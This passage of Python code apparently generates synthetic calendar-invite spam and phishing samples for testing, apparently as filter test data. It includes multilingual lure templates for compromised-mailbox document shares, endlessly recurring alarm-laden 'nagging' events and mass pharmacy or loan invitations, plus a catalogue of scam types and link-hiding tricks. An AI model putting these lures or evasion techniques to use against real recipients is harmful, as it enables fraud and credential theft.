        ("Remittance advice – payment {ref}", "Please see the remittance advice for the payment released today.\n\n{sname}", "loc"),
        ("Updated contract for signature", "As discussed, the updated contract is ready for your signature.\n\nBest,\n{sname}", "conf"),
        ("Review of revised drawings", "Please review the revised drawings before our call.\n\nRegards,\n{sname}\n{sorg}", "altdesc"),
        ("Shared folder: {sorg} statements", "Hi,\nsharing the folder with the statements you asked for.\n{sname}", "attach"),
    ],
    "de": ("Angebot {ref} – Unterlagen zur Ansicht",
           "Guten Tag,\nanbei erhalten Sie unser Angebot zur Ansicht. Die Unterlagen finden Sie über den Link in der Einladung.\nMit freundlichen Grüßen\n{sname}\n{sorg}", None),
    "es": ("Documentos compartidos: presupuesto {ref}",
           "Buenos días,\nle compartimos el presupuesto solicitado. Puede consultarlo en el enlace adjunto.\nSaludos cordiales,\n{sname}", None),
    "sv": ("Offert {ref} – dokument delade med dig",
           "Hej,\nhär kommer offerten vi pratade om. Dokumenten finns via länken i inbjudan.\nMvh\n{sname}", None),
    "el": ("Κοινοποίηση εγγράφου: Προσφορά {ref}",
           "Καλησπέρα σας,\nσας αποστέλλουμε την προσφορά μας. Μπορείτε να τη δείτε μέσω του συνδέσμου.\nΜε εκτίμηση,\n{sname}", None),
    "he": ("שיתוף מסמך: הצעת מחיר {ref}",
           "שלום,\nמצורפת הצעת המחיר שביקשת. ניתן לצפות במסמך בקישור.\nבברכה,\n{sname}", None),
    "it": ("Documenti condivisi: ordine {ref}",
           "Buongiorno,\nvi inviamo i documenti relativi all'ordine. Potete visualizzarli tramite il link.\nCordiali saluti,\n{sname}", None),
}


def f_docs(ctx):
    r = ctx.r
    S = S0(ctx)
    T = DOCS[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    lang_o = ctx.lang if ctx.lang in ORGS else "en"
    so = ctx.org(lang_o)
    sp = ctx.person(lang_o if lang_o in PEOPLE else "en")
    lk = ctx.abuse_url() if r.random() < 0.6 else link(ctx, r.choice(["share", "docs", "file", "view", "onedrive", "sharepoint"]),
                                                        r.choice(["secure", "cloud", "online", "portal"]), p_abuse=0, p_short=0.1)
    S.update(sname=sp[0], sorg=so[0], ref=r.choice(["", "Q-", "RFQ-", "PO-", "AN-"]) + rdigits(r, 5))
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    place = T[2] or r.choice(["attach", "url", "loc", "conf", "altdesc"])
    ev = ctx.ev(summ, desc, None, ctx.at(days=(1, 8), hour=(9, 16), dur=30), attendees=[rc_att(ctx)])
    fn = r.choice(["Proposal.pdf", "Documents.pdf", "RFQ_%s.pdf" % S["ref"], "Contract_v3.docx", "Statements.xlsx",
                   "Drawings_rev2.pdf", "Remittance.pdf"])
    if place == "attach":
        ev["attach"] = [(lk, {"FMTTYPE": "application/pdf" if fn.endswith("pdf") else "application/octet-stream", "FILENAME": fn})]
    elif place == "url":
        ev["url"] = lk
    elif place == "loc":
        ev["location"] = lk
    elif place == "conf":
        ev["conference"] = [(lk, {"FEATURE": "SCREEN", "LABEL": "Open document"})]
        ev["location"] = lk
    else:
        ev["altdesc"] = ('<html><body><p>%s</p><table><tr><td style="border:1px solid #ccc;padding:10px">'
                         '<img src="https://%s/pdf.png" width="32"> <a href="%s">%s</a></td></tr></table></body></html>'
                         % (desc.replace("\n", "<br>"), lk.split("/")[2], lk, fn))
    # the partner mailbox is real and authenticated
    ids = dict(name=sp[0], org=(sp[0], sp[1], so[1]), lookalike=(sp[0], sp[1], lookalike_of(ctx, so[1])))
    prefs = ["org", "lookalike", "consumer", "esp", "vps", "platform"]
    if r.random() < 0.5 and ctx.bclient not in ("transactional", "handrolled", "zoom"):
        # thread-hijack: include other real contacts of the compromised mailbox
        ev["attendees"] += colleagues(ctx, r.randint(1, 6), so[1], lang_o if lang_o in PEOPLE else "en")
    return finish(ctx, ids, prefs, [ev], "document-share lure from a partner mailbox, link only in %s" % place)


# ------------------------------------------------------------------ 13 nagging payloads

NAG = {
    "en": [
        ("Your antivirus expires TODAY – renew now", "Protect your devices: renew with 80% discount\n{link}", "daily"),
        ("Account verification pending – action required", "Complete verification: {link}", "far"),
        ("⚠ Your iPhone may be infected – tap to clean", "Remove viruses now: {link}", "multi"),
        ("Claim your $750 reward", "Reward ID {ref}. Claim: {link}", "todo"),
    ],
    "ru": ("Ваш выигрыш ожидает — напоминание", "Заберите приз до конца дня: {link}", "daily"),
    "zh": ("每日提醒：您有一个红包待领取", "点击领取：{link}", "daily"),
    "ja": ("【毎日通知】iPhoneがウイルスに感染しています", "今すぐ駆除してください：{link}", "alarms"),
    "th": ("แจ้งเตือน: สิทธิ์รับเงินคืนของคุณจะหมดอายุ", "รับเงินคืนได้ที่ {link}", "weekly"),
    "pl": ("Przypomnienie: Twoja paczka czeka – dopłata 1,99 zł", "Opłać tutaj: {link}", "todo"),
}


def f_nag(ctx):
    r = ctx.r
    S = S0(ctx)
    T = NAG[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    lk = link(ctx, r.choice(["secure", "clean", "reward", "claim", "protect"]), r.choice(["now", "app", "device"]), p_abuse=0.2)
    S.update(link=lk, ref=rdigits(r, 7))
    summ, desc, mode = fmt(T[0], S), fmt(T[1], S), T[2]
    st = ctx.at(days=(0, 1), hour=(7, 10), dur=15)
    cl = ctx.bclient
    if cl in ("transactional", "handrolled") and mode != "far":
        mode = r.choice(["multi", "todo"])
    elif cl in ("thunderbird", "nextcloud") and r.random() < 0.6:
        mode = "todo"
    if mode == "todo" and cl not in ("thunderbird", "nextcloud", "transactional", "handrolled"):
        mode = "daily"
    if mode == "multi" and cl not in ("transactional", "handrolled"):
        mode = "alarms"
    alarms = [dict(trigger="-PT%dM" % m, desc=summ) for m in r.sample([0, 1, 2, 5, 10, 15, 30, 60, 120, 240, 480, 720], r.randint(6, 11))]
    alarms = [dict(trigger=a["trigger"].replace("-PT0M", "PT0S"), desc=a["desc"]) for a in alarms]
    events = []
    if mode in ("daily", "weekly", "alarms"):
        if mode == "daily" and r.random() < 0.5:
            # the series started long ago and never ends
            s0 = st[0] - dt.timedelta(days=r.randint(200, 900))
            st = (s0, s0 + dt.timedelta(minutes=15))
        ev = ctx.ev(summ, desc, lk, st, attendees=[rc_att(ctx)], alarms=alarms)
        if mode == "daily":
            ev["rrule"] = r.choice(["FREQ=DAILY", "FREQ=DAILY;INTERVAL=1", "FREQ=HOURLY;INTERVAL=6", "FREQ=DAILY;COUNT=3650"])
        elif mode == "weekly":
            ev["rrule"] = "FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR"
        else:
            ev["rrule"] = "FREQ=DAILY;UNTIL=%d1231T235959Z" % (ctx.year + 30)
        events.append(ev)
        note = "nagging payload: endless recurrence with %d alarms" % len(alarms)
    elif mode == "far":
        y = r.choice([2099, 2085, 2069, ctx.year + 40])
        s = st[0].replace(year=y)
        ev = ctx.ev(summ, desc, lk, (s, s + dt.timedelta(minutes=30)), attendees=[rc_att(ctx)],
                    alarms=[dict(trigger="@" + (ctx.arrival + dt.timedelta(minutes=5 + 60 * k)).strftime("%Y%m%dT%H%M%SZ"),
                                 desc=summ) for k in range(r.randint(4, 9))])
        ev["url"] = lk
        events.append(ev)
        note = "nagging payload: event in %d with absolute alarms starting now" % y
    elif mode == "multi":
        n = r.randint(10, 21)
        for k in range(n):
            s = st[0] + dt.timedelta(days=k, hours=r.randint(0, 8))
            events.append(ctx.ev(summ, desc, lk, (s, s + dt.timedelta(minutes=15)), attendees=[rc_att(ctx)],
                                 alarms=[dict(trigger="PT0S", desc=summ), dict(trigger="-PT5M", desc=summ)]))
        note = "nagging payload: %d separate events, one per day" % n
    else:
        ev = ctx.ev(summ, desc, None, st, attendees=[rc_att(ctx)], alarms=alarms, kind="VTODO",
                    due=st[0] + dt.timedelta(hours=2), priority=1)
        ev["rrule"] = "FREQ=HOURLY;INTERVAL=3"
        ev["url"] = lk
        events.append(ev)
        note = "nagging payload: VTODO repeating every 3 hours with many alarms"
    ids = dict(name=r.choice([None, "Security Center", "Reminder", "Notification"]), words=["alert", "notice"])
    method = "PUBLISH" if mode == "multi" and r.random() < 0.6 else "REQUEST"
    return finish(ctx, ids, ["consumer", "vps", "esp", "org", "lookalike", "platform"], events, note, method=method)


# ------------------------------------------------------------------ 14 mass invitations

MASS = {
    "en": [
        ("Canadian Pharmacy – up to 80% OFF, no prescription needed",
         "Brand & generic meds, discreet worldwide shipping. Order online: {link}"),
        ("SEO: rank #1 on Google in 30 days – free website audit",
         "Hi,\nI noticed your website is not ranking for important keywords. We can fix this in 30 days. Free audit: {link}\nReply STOP to opt out."),
        ("Business funding pre-approved up to $250,000 – no credit check",
         "Your business qualifies for fast funding. Funds in 24 hours. Apply: {link} or call {phone}"),
        ("Free masterclass: $10K/month with AI dropshipping",
         "Live this Thursday. Seats are limited – reserve now: {link}"),
    ],
    "tr": ("Hoş geldin bonusu %500 – hemen üye ol", "Kayıt ol, ilk yatırımına %500 bonus kazan: {link}"),
    "nl": ("Gratis zonnepanelen-scan – subsidie nog tot {enddate}", "Bespaar tot € 1.200 per jaar. Vraag uw gratis scan aan: {link}"),
    "hi": ("सस्ता होम लोन – 6.5% ब्याज, तुरंत मंज़ूरी", "बिना किसी झंझट के लोन पाएं। अभी आवेदन करें: {link} या कॉल करें {phone}"),
    "ar": ("فرصة استثمار عقاري في دبي – دفعة أولى 10% فقط", "شقق فاخرة بخطة سداد مريحة. احجز الآن: {link} أو اتصل {phone}"),
    "zh": ("代开各地正规发票 增值税专用发票 点数优惠", "长期有效，可先验后付。\n联系人：王经理\n电话/微信：13{d9}\n{link}"),
}


def f_mass(ctx):
    r = ctx.r
    S = S0(ctx)
    T = MASS[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    lk = link(ctx, r.choice(["rx", "meds", "seo", "funding", "loan", "bet", "solar", "invest", "class"]),
              r.choice(["pro", "fast", "now", "direct", "online"]), p_abuse=0.15)
    S.update(link=lk, phone=ctx.phone({"en": "us", "hi": "hi", "ar": "ar"}.get(ctx.lang, "us")), d9=rdigits(r, 9))
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    n = r.randint(140, 420)
    atts = strangers(ctx, n, [ctx.lang, "en", "en", "de", "fr", "es"])
    atts.insert(r.randint(0, len(atts)), rc_att(ctx))
    ev = ctx.ev(summ, desc, r.choice([lk, None, "Online"]), ctx.at(days=(1, 21), hour=(8, 20)), attendees=atts)
    ids = dict(name=r.choice([None, "Marketing Team", ctx.person(ctx.lang)[0], "Promotions"]), words=["promo", "deals"])
    sc = finish(ctx, ids, ["org", "consumer", "vps", "esp", "lookalike", "platform"], [ev],
                "mass invitation to %d unrelated attendees" % len(atts))
    if ctx.bclient in ("transactional", "handrolled") and r.random() < 0.5:
        sc["to"] = [(None, "undisclosed-recipients:;")]
    return sc


# ------------------------------------------------------------------ registry

def L_(en, *others):
    return ["en"] * en + list(others)


AFF_ALL = dict(google=3, exchange=3, outlook=2, icloud=2, applemail=2, thunderbird=2, zoom=1, nextcloud=1, zimbra=2,
               yahoo=2, sogo=1, transactional=2, listmgr=1, handrolled=2)


def aff(**kw):
    d = dict(AFF_ALL)
    d.update(kw)
    return d


CATEGORIES = [
    dict(name="retail-sale-wave", n=12, fn=f_retail, langs=L_(6, "zh", "zh-TW", "ja", "de", "fr", "ko"),
         aff=aff(icloud=6, google=3, yahoo=3, zoom=0, nextcloud=0, sogo=0, listmgr=2),
         about="sale waves for brand goods (sunglasses, bags, boots) with shop links, sent to many harvested addresses"),
    dict(name="prize-survey-lure", n=12, fn=f_prize, langs=L_(6, "de", "fr", "pt", "it", "nl", "pl"),
         aff=aff(transactional=4, listmgr=2, zoom=1),
         about="gift-card, loyalty-point, survey and ‘you won’ lures"),
    dict(name="crypto-investment", n=12, fn=f_crypto, langs=L_(6, "ru", "ru", "ar", "hi", "th", "ja"),
         aff=aff(listmgr=3, zoom=2),
         about="crypto wallet payouts, airdrops, trading signals, fund-recovery and investment-club fraud"),
    dict(name="dating-sextortion", n=11, fn=f_dating, langs=L_(5, "de", "fr", "it", "nl", "es", "ru"),
         aff=aff(zoom=0, nextcloud=1, listmgr=1),
         about="dating lures and sextortion demands (Bitcoin address only)"),
    dict(name="fee-scam", n=12, fn=f_fee, langs=L_(6, "he", "el", "th", "ko", "fr", "es"),
         aff=aff(transactional=5, handrolled=3, zoom=0),
         about="parcel redelivery, customs, toll, tax-refund and traffic-fine fee scams"),
    dict(name="credential-phish", n=14, fn=f_phish, langs=L_(7, "de", "fr", "nl", "sv", "ja", "zh", "ru"),
         aff=aff(exchange=5, transactional=4, zimbra=3, nextcloud=2, sogo=2, zoom=1),
         about="credential phishing under Microsoft 365, DocuSign, PayPal, banks, Adobe, Dropbox and government brands"),
    dict(name="callback-scam", n=12, fn=f_callback, langs=L_(8, "tr", "hi", "ar", "pl"),
         aff=aff(zoom=6, google=4, listmgr=2),
         about="tech-support and subscription-renewal callback scams: only a phone number, no link"),
    dict(name="fake-update-paste", n=10, fn=f_update, langs=L_(5, "pt", "ko", "tr", "ru", "sv"), y0=2017,
         aff=aff(exchange=5, zoom=1, nextcloud=2),
         about="fake Teams/Zoom/font/meeting-app updates and ‘paste this command’ (ClickFix) lures"),
    dict(name="bec", n=14, fn=f_bec, langs=L_(7, "es", "pt", "pl", "it", "de", "fr", "he"),
         aff=aff(exchange=7, outlook=4, applemail=4, zoom=0, listmgr=0, nextcloud=0, transactional=0, icloud=1),
         about="business e-mail compromise: CEO fraud, gift cards, supplier bank-detail and payroll changes"),
    dict(name="advance-fee", n=10, fn=f_aff, langs=L_(5, "pt", "es", "ar", "zh", "el"),
         aff=aff(yahoo=5, listmgr=3, zoom=0, nextcloud=0),
         about="inheritance, compensation, lottery and business-proposal advance-fee fraud"),
    dict(name="task-job-scam", n=11, fn=f_job, langs=L_(5, "hi", "ko", "tr", "th", "ar", "ja"), y0=2020,
         aff=aff(listmgr=3, zoom=2),
         about="remote-job and task scams moving victims to WhatsApp, Telegram, LINE or Kakao"),
    dict(name="compromised-doc-share", n=12, fn=f_docs, langs=L_(6, "de", "es", "sv", "el", "he", "it"),
         aff=aff(exchange=7, zimbra=4, sogo=3, nextcloud=3, zoom=0, icloud=0, yahoo=1, listmgr=0),
         about="document-share lures from compromised partner mailboxes, link hidden in ATTACH/URL/LOCATION/CONFERENCE/X-ALT-DESC"),
    dict(name="nagging-payload", n=9, fn=f_nag, langs=L_(4, "ru", "zh", "ja", "th", "pl"),
         aff=aff(handrolled=4, transactional=3, thunderbird=3, nextcloud=2),
         about="endless recurrence, piles of alarms, far-future dates, many events or repeating VTODOs"),
    dict(name="mass-invite", n=9, fn=f_mass, langs=L_(4, "tr", "nl", "hi", "ar", "zh"),
         aff=aff(exchange=4, listmgr=3),
         about="invitations to hundreds of unrelated attendees (pharmacy, SEO, loans, betting, property, invoices)"),
]
